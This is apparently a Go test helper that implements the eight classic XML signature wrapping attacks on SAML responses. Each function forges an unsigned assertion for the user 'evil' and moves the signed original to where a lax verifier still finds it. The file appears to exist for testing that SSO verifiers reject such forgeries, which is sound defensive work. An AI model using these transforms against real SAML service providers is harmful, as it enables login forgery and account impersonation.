package ssotest

import (
	"github.com/beevik/etree"
)

// The eight classic signature wrapping attacks (Somorovsky and others, "On
// Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012). Each takes a
// response as it was signed and puts an assertion about the attacker, Evil, to
// where a careless reader looks, while the signed original stays findable for a
// careless verifier. 1 and 2 need a signed response, the others a signed
// assertion.
func Wrapped(n int) func(response *etree.Element) {
	return map[int]func(*etree.Element){1: xsw1, 2: xsw2, 3: xsw3, 4: xsw4, 5: xsw5, 6: xsw6, 7: xsw7, 8: xsw8}[n]
}

// Evil is the NameID that the attacks try to sign in.
const Evil = "evil"

// forge makes a copy that says Evil under other IDs and has no signature.
func forge(el *etree.Element) *etree.Element {
	out := el.Copy()
	for _, e := range append(out.FindElements(".//Assertion"), out) {
		e.CreateAttr("ID", "_evil"+randomHex(8))
	}
	if sig := out.SelectElement("Signature"); sig != nil {
		out.RemoveChild(sig)
	}
	for _, name := range out.FindElements(".//NameID") {
		name.SetText(Evil)
	}
	return out
}

// become makes el the same as other, in place.
func become(el, other *etree.Element) {
	el.Space, el.Tag, el.Attr = other.Space, other.Tag, other.Attr
	for len(el.Child) > 0 {
		el.RemoveChildAt(0)
	}
	for len(other.Child) > 0 {
		el.AddChild(other.Child[0])
	}
}

// xsw1: a forged response; the signed one lies inside its signature.
func xsw1(response *etree.Element) {
	original := response.Copy()
	sig := original.SelectElement("Signature")
	original.RemoveChild(sig)
	evil := forge(original)
	sig.AddChild(original)
	evil.InsertChildAt(1, sig)
	become(response, evil)
}

// xsw2: as 1, but the signature stands before the original, detached.
func xsw2(response *etree.Element) {
	original := response.Copy()
	sig := original.SelectElement("Signature")
	original.RemoveChild(sig)
	evil := forge(original)
	evil.InsertChildAt(1, original)
	evil.InsertChildAt(1, sig)
	become(response, evil)
}

// xsw3: a forged assertion before the signed one.
func xsw3(response *etree.Element) {
	assertion := response.SelectElement("Assertion")
	response.InsertChildAt(assertion.Index(), forge(assertion))
}

// xsw4: the signed assertion inside the forged one.
func xsw4(response *etree.Element) {
	assertion := response.SelectElement("Assertion")
	evil := forge(assertion)
	response.RemoveChild(assertion)
	evil.AddChild(assertion)
	response.AddChild(evil)
}

// xsw5: the signature in the forged assertion, the original without it at the end.
func xsw5(response *etree.Element) {
	assertion := response.SelectElement("Assertion")
	evil := forge(assertion)
	sig := assertion.SelectElement("Signature")
	assertion.RemoveChild(sig)
	evil.InsertChildAt(1, sig)
	response.InsertChildAt(assertion.Index(), evil)
}

// xsw6: the original inside the signature inside the forged assertion.
func xsw6(response *etree.Element) {
	assertion := response.SelectElement("Assertion")
	evil := forge(assertion)
	sig := assertion.SelectElement("Signature")
	assertion.RemoveChild(sig)
	response.RemoveChild(assertion)
	sig.AddChild(assertion)
	evil.InsertChildAt(1, sig)
	response.AddChild(evil)
}

// xsw7: the forged assertion in Extensions, where schemas look the other way.
func xsw7(response *etree.Element) {
	assertion := response.SelectElement("Assertion")
	extensions := etree.NewElement("samlp:Extensions")
	extensions.AddChild(forge(assertion))
	response.InsertChildAt(1, extensions)
}

// xsw8: the original in an Object of the signature of the forged assertion.
func xsw8(response *etree.Element) {
	assertion := response.SelectElement("Assertion")
	evil := forge(assertion)
	sig := assertion.SelectElement("Signature")
	assertion.RemoveChild(sig)
	response.RemoveChild(assertion)
	sig.CreateElement("ds:Object").AddChild(assertion)
	evil.InsertChildAt(1, sig)
	response.AddChild(evil)
}
